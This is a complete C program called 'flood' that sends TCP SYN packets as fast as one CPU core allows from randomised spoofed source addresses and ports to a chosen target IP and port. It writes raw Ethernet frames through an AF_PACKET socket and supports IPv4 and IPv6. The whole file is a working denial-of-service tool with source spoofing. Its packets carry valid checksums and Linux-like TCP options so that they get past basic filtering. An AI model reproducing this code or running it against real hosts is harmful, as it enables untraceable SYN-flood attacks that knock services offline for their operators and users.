/*
 * flood - SYNs from anybody, as fast as one core can send them
 *
 *   flood IF MAC FROM/LEN TO PORT [--seconds S] [--seed N]
 *
 * Sends TCP SYNs out of IF, to the machine with MAC, from random addresses of FROM/LEN and random
 * ports, to PORT of TO; both families. At the end (SIGTERM, SIGINT, or after S seconds) it prints
 * how many. Right in every field, or the first check would throw them away: the options are those
 * that Linux sends.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define OPTIONS_LEN 20
#define TCP_LEN (20 + OPTIONS_LEN)
#define FRAME_MAX_LEN (ETH_HLEN + 40 + TCP_LEN)

/* MSS 1460, SACK, timestamps, window scale 7. */
static const uint8_t options[OPTIONS_LEN] = { 2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 1,
                                              2, 3, 0, 0,    0, 0, 1, 3,  3, 7 };

struct target {
    int family;
    size_t addr_len, ip_len;
    unsigned prefix_len;
    uint8_t from[16], to[16];
    uint16_t port;
};

static volatile sig_atomic_t stop;

static void on_signal(int number)
{
    stop = 1;
}

static void fail(const char *what)
{
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint64_t next_random(uint64_t *state)
{
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    return *state * UINT64_C(0x2545f4914f6cdd1d);
}

static void put16(uint8_t *at, uint32_t v)
{
    at[0] = (uint8_t)(v >> 8);
    at[1] = (uint8_t)v;
}

static uint32_t sum_of(const uint8_t *at, size_t len)
{
    uint32_t sum = 0;

    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)at[i] << 8 | at[i + 1];
    return sum;
}

static uint16_t checksum(uint32_t sum)
{
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* Everything that no SYN changes. */
static void fill(uint8_t *frame, const struct target *t, const uint8_t *to_mac,
                 const uint8_t *from_mac)
{
    uint8_t *ip = frame + ETH_HLEN, *tcp = ip + t->ip_len;

    memcpy(frame, to_mac, ETH_ALEN);
    memcpy(frame + ETH_ALEN, from_mac, ETH_ALEN);
    put16(frame + 12, t->family == AF_INET ? ETHERTYPE_IP : ETHERTYPE_IPV6);
    if (t->family == AF_INET) {
        ip[0] = 0x45;
        put16(ip + 2, 20 + TCP_LEN);
        ip[6] = 0x40;
        ip[8] = 64;
        ip[9] = 6;
    } else {
        ip[0] = 0x60;
        put16(ip + 4, TCP_LEN);
        ip[6] = 6;
        ip[7] = 64;
    }
    memcpy(ip + t->ip_len - t->addr_len, t->to, t->addr_len);
    put16(tcp + 2, t->port);
    tcp[12] = TCP_LEN / 4 << 4;
    tcp[13] = 2;
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, OPTIONS_LEN);
}

/* Another source, port and sequence number. */
static void vary(uint8_t *frame, const struct target *t, uint64_t *rng)
{
    uint8_t *ip = frame + ETH_HLEN, *tcp = ip + t->ip_len;
    uint8_t *src = ip + t->ip_len - 2 * t->addr_len;
    const uint64_t host = next_random(rng), numbers = next_random(rng);

    memcpy(src, t->from, t->addr_len);
    for (unsigned bit = t->prefix_len; bit < t->addr_len * 8; bit++)
        if ((host >> bit % 64 & 1) != 0)
            src[bit / 8] ^= (uint8_t)(0x80 >> bit % 8);
    put16(tcp, 1024 + (uint32_t)(numbers & 0x7fff));
    memcpy(tcp + 4, (const uint8_t *)&numbers + 4, 4);
    put16(tcp + 16, 0);
    put16(tcp + 16, checksum(sum_of(src, 2 * t->addr_len) + 6 + TCP_LEN + sum_of(tcp, TCP_LEN)));
    if (t->family == AF_INET) {
        put16(ip + 10, 0);
        put16(ip + 10, checksum(sum_of(ip, 20)));
    }
}

static bool parse(char **argv, struct target *t)
{
    char *slash = strchr(argv[3], '/');

    if (slash == NULL)
        return false;
    *slash = '\0';
    t->family = strchr(argv[3], ':') != NULL ? AF_INET6 : AF_INET;
    t->addr_len = t->family == AF_INET ? 4 : 16;
    t->ip_len = t->family == AF_INET ? 20 : 40;
    t->prefix_len = (unsigned)atoi(slash + 1);
    t->port = (uint16_t)atoi(argv[5]);
    return t->prefix_len <= t->addr_len * 8 && inet_pton(t->family, argv[3], t->from) == 1 &&
           inet_pton(t->family, argv[4], t->to) == 1;
}

static int open_interface(const char *name, uint8_t mac[ETH_ALEN])
{
    const int fd = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;
    struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name) };
    struct ifreq r = { 0 };

    if (fd < 0 || at.sll_ifindex == 0)
        fail(name);
    snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", name);
    if (ioctl(fd, SIOCGIFHWADDR, &r) < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0)
        fail(name);
    memcpy(mac, r.ifr_hwaddr.sa_data, ETH_ALEN);
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes));
    return fd;
}

static double seconds_now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    static uint8_t frames[BATCH][FRAME_MAX_LEN];
    uint8_t mac[ETH_ALEN];
    struct mmsghdr messages[BATCH] = { 0 };
    struct iovec parts[BATCH];
    const struct ether_addr *to_mac = argc > 2 ? ether_aton(argv[2]) : NULL;
    struct target t = { 0 };
    uint64_t rng = 88172645463325252, sent = 0, refused = 0;
    double seconds = 1e9, start, end;
    int fd, n;

    if (argc < 6 || to_mac == NULL || !parse(argv, &t)) {
        fprintf(stderr, "usage: flood IF MAC FROM/LEN TO PORT [--seconds S] [--seed N]\n");
        return 2;
    }
    for (int i = 6; i + 1 < argc; i += 2) {
        if (strcmp(argv[i], "--seconds") == 0)
            seconds = atof(argv[i + 1]);
        else if (strcmp(argv[i], "--seed") == 0)
            rng ^= strtoull(argv[i + 1], NULL, 10) * 0x9e3779b97f4a7c15;
    }
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    fd = open_interface(argv[1], mac);
    for (int i = 0; i < BATCH; i++) {
        fill(frames[i], &t, to_mac->ether_addr_octet, mac);
        parts[i] = (struct iovec){ frames[i], ETH_HLEN + t.ip_len + TCP_LEN };
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    start = seconds_now();
    do {
        for (int i = 0; i < BATCH; i++)
            vary(frames[i], &t, &rng);
        n = sendmmsg(fd, messages, BATCH, 0);
        if (n > 0)
            sent += (uint64_t)n;
        else if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR)
            refused++;
        else
            fail("send");
        end = seconds_now();
    } while (stop == 0 && end - start < seconds);
    printf("%lu SYNs in %.1f s, %.0f a second; %lu batches refused by the interface\n",
           (unsigned long)sent, end - start, (double)sent / (end - start), (unsigned long)refused);
    return 0;
}
